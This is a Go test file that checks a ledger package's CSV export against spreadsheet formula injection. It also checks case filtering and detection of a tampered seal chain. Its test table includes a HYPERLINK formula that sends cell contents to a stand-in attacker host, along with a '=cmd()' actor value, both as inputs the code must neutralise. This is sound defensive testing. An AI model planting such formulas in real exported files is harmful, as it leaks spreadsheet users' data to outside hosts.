package ledger_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"strings"
	"testing"
	"time"

	"countersign/bot"
	"countersign/bot/ledger"
)

// The first two are lines dev-037 and dev-038 of the hostile inputs.
func TestACellNeverStartsAFormula(t *testing.T) {
	tests := []struct{ value, field string }{
		{`=HYPERLINK("http://evil.example?x="&A1,"ok")`, `"'=HYPERLINK(""http://evil.example?x=""&A1,""ok"")"`},
		{"+44 20 7946 0000", "'+44 20 7946 0000"},
		{"-1+1", "'-1+1"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\tx", "'\tx"},
		{"＝1+1", "'＝1+1"},
		{"plain = text", "plain = text"},
		{"", ""},
	}
	for _, tt := range tests {
		var out bytes.Buffer
		w := csv.NewWriter(&out)
		if err := w.Write([]string{ledger.SafeCell(tt.value), "end"}); err != nil {
			t.Fatal(err)
		}
		w.Flush()
		if got, _ := strings.CutSuffix(out.String(), ",end\n"); got != tt.field {
			t.Errorf("SafeCell(%q) is written as %s, want %s", tt.value, got, tt.field)
		}
	}
}

func TestTheCSVExportHoldsFactsAndNoFormulas(t *testing.T) {
	body, err := ledger.Encode(bot.Event{Seq: 1, Case: 7, Kind: bot.EventReceived, At: time.Unix(0, 0), Actor: "=cmd()",
		Facts: map[string]any{"channel": "acme"}}, nil)
	if err != nil {
		t.Fatal(err)
	}
	entry := bot.Sealed{Seq: 1, Case: 7, Kind: bot.EventReceived, At: time.Unix(0, 0), Body: body, Prev: ledger.Genesis(), Seal: ledger.Seal(ledger.Genesis(), body)}
	events := func(yield func(bot.Sealed, error) bool) { yield(entry, nil) }
	var out bytes.Buffer
	if err := ledger.ExportCSV(&out, events, 7); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(&out).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("%d rows, %v; want a header and one entry", len(rows), err)
	}
	if rows[1][4] != "'=cmd()" || rows[1][5] != `{"channel":"acme"}` {
		t.Errorf("row %q", rows[1])
	}
	out.Reset()
	if err := ledger.ExportCSV(&out, events, 0); err != nil || strings.Count(out.String(), "\n") != 2 {
		t.Errorf("of all cases: %q, %v; want a header and one entry", out.String(), err)
	}
	out.Reset()
	if err := ledger.ExportCSV(&out, events, 8); err != nil || strings.Count(out.String(), "\n") != 1 {
		t.Errorf("entries of another case were written: %q, %v", out.String(), err)
	}
	entry.Kind = bot.EventResolved
	out.Reset()
	var broken *ledger.BrokenError
	if err := ledger.ExportCSV(&out, events, 0); !errors.As(err, &broken) || broken.Seq != 1 || strings.Count(out.String(), "\n") != 2 {
		t.Errorf("of a changed entry: %q, %v; want it written, and the fault", out.String(), err)
	}
}
